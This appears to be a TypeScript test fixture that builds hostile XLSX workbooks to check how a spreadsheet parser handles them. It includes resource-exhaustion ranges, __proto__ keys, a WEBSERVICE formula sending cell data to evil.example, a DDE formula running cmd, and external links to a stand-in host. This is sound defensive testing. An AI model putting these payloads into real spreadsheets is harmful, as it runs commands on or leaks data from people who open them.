import {
  bookOf,
  hostileBook,
  office,
  ordinaryRows,
  relation,
  relationsOf,
  sheetOf,
  sheetPart,
  stylesOf,
  withCell,
  withRows,
  type Hostile,
} from "./fixture-hostile-base.ts";

const whole = "A1:XFD1048576";
const after = (xml: string): Buffer =>
  hostileBook({ [sheetPart]: sheetOf(ordinaryRows, { after: xml }) });

/** What is wrong with a sheet or a cell. */
export const hostileSheets: readonly Hostile[] = [
  [
    "a size of the whole sheet",
    "read",
    () =>
      hostileBook({
        [sheetPart]: sheetOf(ordinaryRows, { before: `<dimension ref="${whole}"/>` }),
      }),
  ],
  [
    "one merged range of the whole sheet",
    "read",
    () => after(`<mergeCells><mergeCell ref="${whole}"/></mergeCells>`),
  ],
  [
    "a drop-down in every cell",
    "read",
    () =>
      after(
        `<dataValidations><dataValidation type="list" sqref="${whole}"><formula1>"a"</formula1></dataValidation></dataValidations>`,
      ),
  ],
  [
    "a rule for every cell",
    "read",
    () =>
      after(
        `<conditionalFormatting sqref="${whole}"><cfRule type="expression" priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>`,
      ),
  ],
  [
    "columns up to the end",
    "read",
    () =>
      hostileBook({
        [sheetPart]: sheetOf(ordinaryRows, {
          before: '<cols><col min="1" max="999999999"/></cols>',
        }),
      }),
  ],
  [
    "a row beyond the last",
    "refused",
    () => withRows('<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>'),
  ],
  ["a row of no number", "refused", () => withRows('<row r="x"><c r="Ax"><v>1</v></c></row>')],
  ["a column beyond the last", "refused", () => withCell('<c r="ZZZZZZZ3"><v>1</v></c>')],
  ["a cell that is called __proto__", "refused", () => withCell('<c r="__proto__"><v>1</v></c>')],
  ["a text before the first", "refused", () => withCell('<c r="A3" t="s"><v>-1</v></c>')],
  ["a text after the last", "refused", () => withCell('<c r="A3" t="s"><v>1000000000</v></c>')],
  ["a text of no number", "refused", () => withCell('<c r="A3" t="s"><v>__proto__</v></c>')],
  ["a style after the last", "read", () => withCell('<c r="A3" s="999999"><v>1</v></c>')],
  [
    "a kind of cell that there is not",
    "read",
    () => withCell('<c r="A3" t="constructor"><v>1</v></c>'),
  ],
  ["a number beyond all", "read", () => withCell('<c r="A3" s="1"><v>1e308</v></c>')],
  ["a date before all", "read", () => withCell('<c r="A3" s="1"><v>-1e308</v></c>')],
  [
    "dates from 1904 beyond all",
    "read",
    () =>
      hostileBook({
        "xl/workbook.xml": bookOf('<workbookPr date1904="1"/>'),
        [sheetPart]: sheetOf(`${ordinaryRows}<row r="3"><c r="A3" s="1"><v>1e300</v></c></row>`),
      }),
  ],
  [
    "a formula that fetches",
    "read",
    () => withCell('<c r="A3"><f>WEBSERVICE("http://evil.example/?"&amp;A2)</f><v>7</v></c>'),
  ],
  [
    "a formula that runs a program",
    "read",
    () => withCell("<c r=\"A3\"><f>cmd|'/C calc'!A0</f><v>7</v></c>"),
  ],
  [
    "a shared formula of nobody",
    "read",
    () => withCell('<c r="A3"><f t="shared" si="9"/><v>7</v></c>'),
  ],
  [
    "a shared formula of the whole sheet",
    "read",
    () => withCell(`<c r="A3"><f t="shared" si="0" ref="${whole}">A2</f><v>7</v></c>`),
  ],
  [
    "a table of formulas of the whole sheet",
    "read",
    () => withCell(`<c r="A3"><f t="array" ref="${whole}">A2</f><v>7</v></c>`),
  ],
];

const dates = (code: string): Buffer =>
  hostileBook({
    "xl/styles.xml": stylesOf(
      `<numFmts><numFmt numFmtId="200" formatCode="${code}"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200" applyNumberFormat="1"/></cellXfs>`,
    ),
    [sheetPart]: sheetOf(`${ordinaryRows}<row r="3"><c r="A3" s="1"><v>40606</v></c></row>`),
  });

const manySheets = Array.from({ length: 2_000 }, (_, at) => at + 1);

/** What is wrong with the book around the sheets, or fetches from elsewhere. */
export const hostileBooks: readonly Hostile[] = [
  ["a format of 100,000 brackets", "refused", () => dates("[".repeat(100_000))],
  ["a format of 100,000 quotes", "refused", () => dates("&quot;".repeat(99_999))],
  [
    "100,000 styles",
    "read",
    () =>
      hostileBook({
        "xl/styles.xml": stylesOf(`<cellXfs>${'<xf numFmtId="14"/>'.repeat(100_000)}</cellXfs>`),
      }),
  ],
  [
    "2,000 sheets",
    "read",
    () =>
      hostileBook({
        "xl/workbook.xml": bookOf(
          "",
          manySheets.map((at) => `<sheet name="S${at}" sheetId="${at}" r:id="rId1"/>`).join(""),
        ),
      }),
  ],
  [
    "a sheet called __proto__",
    "read",
    () =>
      hostileBook({
        "xl/workbook.xml": bookOf("", '<sheet name="__proto__" sheetId="1" r:id="rId1"/>'),
      }),
  ],
  [
    "a sheet that is not there",
    "refused",
    () =>
      hostileBook({
        "xl/workbook.xml": bookOf("", '<sheet name="Current" sheetId="1" r:id="constructor"/>'),
      }),
  ],
  [
    "a name for every cell",
    "read",
    () =>
      hostileBook({
        "xl/workbook.xml": bookOf(
          `<definedNames><definedName name="all">Current!$A$1:$XFD$1048576</definedName></definedNames>`,
        ),
      }),
  ],
  [
    "links to another workbook",
    "read",
    () =>
      hostileBook({
        "xl/workbook.xml": bookOf(
          '<externalReferences><externalReference r:id="rId9"/></externalReferences>',
        ),
        "xl/externalLinks/externalLink1.xml": `<externalLink xmlns:r="${office}"><externalBook r:id="rId1"/></externalLink>`,
        "xl/externalLinks/_rels/externalLink1.xml.rels": relationsOf(
          relation(
            "rId1",
            "externalLinkPath",
            "https://evil.example/b.xlsx",
            ' TargetMode="External"',
          ),
        ),
      }),
  ],
  [
    "a connection to the web",
    "read",
    () =>
      hostileBook({
        "xl/connections.xml":
          '<connections><connection id="1" type="4"><webPr url="http://evil.example/"/></connection></connections>',
      }),
  ],
  ["a program", "read", () => hostileBook({ "xl/vbaProject.bin": "x" })],
  [
    "a sheet from another machine",
    "read",
    () =>
      hostileBook({
        "xl/_rels/workbook.xml.rels": relationsOf(
          relation(
            "rId1",
            "worksheet",
            "https://evil.example/sheet1.xml",
            ' TargetMode="External"',
          ),
        ),
      }),
  ],
  [
    "relations that lead to themselves",
    "read",
    () =>
      hostileBook({
        "xl/_rels/workbook.xml.rels": relationsOf(relation("rId1", "worksheet", "workbook.xml")),
      }),
  ],
];
